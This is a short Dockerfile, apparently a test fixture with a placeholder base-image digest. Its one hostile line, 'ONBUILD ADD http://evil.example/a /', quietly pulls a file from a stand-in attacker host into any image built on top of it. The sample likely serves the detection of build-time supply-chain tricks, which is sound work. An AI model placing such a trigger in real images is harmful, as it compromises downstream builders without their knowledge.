FROM cyberprivacy/python@sha256:5a5a5a5a5a5a5a5a5a5a5a5a5a5a5a5a5a5a5a5a5a5a5a5a5a5a5a5a5a5a5a5a
ONBUILD ADD http://evil.example/a /
USER 10001
CMD ["python3", "/app/main.py"]
